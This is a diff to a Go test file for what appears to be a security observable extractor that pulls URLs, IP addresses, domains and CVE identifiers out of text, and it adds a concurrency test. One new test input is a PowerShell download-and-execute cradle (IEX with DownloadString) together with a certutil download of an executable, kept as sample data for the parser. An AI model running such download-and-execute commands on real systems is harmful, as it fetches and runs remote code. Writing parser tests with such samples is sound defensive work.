@@ -96,6 +96,8 @@ func TestText(t *testing.T) {
 		{"percent encoded", "/login.php?url=http%3A%2F%2Fmail.example.com%2F.%2Fa", []string{"domain mail.example.com"}},
 		{"json escaped", `{\"dest_ip\":\"10.0.0.52\",\"hostname\":\"www.example.com\"}`,
 			[]string{"ipv4 10.0.0.52", "domain www.example.com"}},
+		{"command line", "IEX (New-Object Net.WebClient).DownloadString('http://10.0.254.30:8000/run.ps1'); certutil -f ftp://[2001:db8::5]/x.exe",
+			[]string{"url http://10.0.254.30:8000/run.ps1", "ipv4 10.0.254.30", "url ftp://[2001:db8::5]/x.exe", "ipv6 2001:db8::5"}},
 		{"empty", "", nil},
 		{"no observables", "the quick brown fox jumps over the lazy dog", nil},
 	}
@@ -200,5 +202,28 @@ func TestAdd(t *testing.T) {
 				t.Errorf("Add(%s, %q) = %q, want %q", tc.typ, tc.in, got, want)
 			}
 		})
+	}
+}
+
+// TestTextConcurrent shares one Extractor between goroutines; run with -race.
+func TestTextConcurrent(t *testing.T) {
+	x := New(Options{InternalDomains: []string{"corp.example.com"}})
+	const in = "hxxp://evil[.]com/a 10.0.0.1 a@b.corp.example.com CVE-2024-3094"
+	want := render(x.Text(nil, in, "text"))
+	errs := make(chan string, 8)
+	for range 8 {
+		go func() {
+			got := render(x.Text(nil, in, "text"))
+			if !slices.Equal(got, want) {
+				errs <- strings.Join(got, ",")
+				return
+			}
+			errs <- ""
+		}()
+	}
+	for range 8 {
+		if e := <-errs; e != "" {
+			t.Errorf("concurrent Text = %s, want %q", e, want)
+		}
 	}
 }
